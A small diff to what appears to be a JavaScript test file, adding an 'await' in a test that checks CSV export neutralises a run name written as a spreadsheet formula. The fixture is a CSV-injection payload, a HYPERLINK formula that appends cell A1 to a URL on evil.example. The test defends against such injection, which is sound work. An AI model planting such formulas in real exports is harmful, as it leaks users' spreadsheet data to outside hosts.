@@ -18,7 +18,7 @@ test('CSV cells never start a formula: = + - @ tab CR get a leading quote; numbe
 test('runs.export CSV of a run named as a formula exports it as text', { timeout: 30_000 }, async () => {
   const t = await startTestCore('completing');
   try {
-    const run = t.core.runs.create(demoConfig({ name: '=HYPERLINK("http://evil.example/?"&A1,"open")' }));
+    const run = await t.core.runs.create(demoConfig({ name: '=HYPERLINK("http://evil.example/?"&A1,"open")' }));
     const csv = t.core.housekeeping.export(run.id, 'csv').content;
     const nameLine = csv.split('\n').find((l) => l.startsWith('config,name,'));
     assert.equal(nameLine, `config,name,,,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",`);
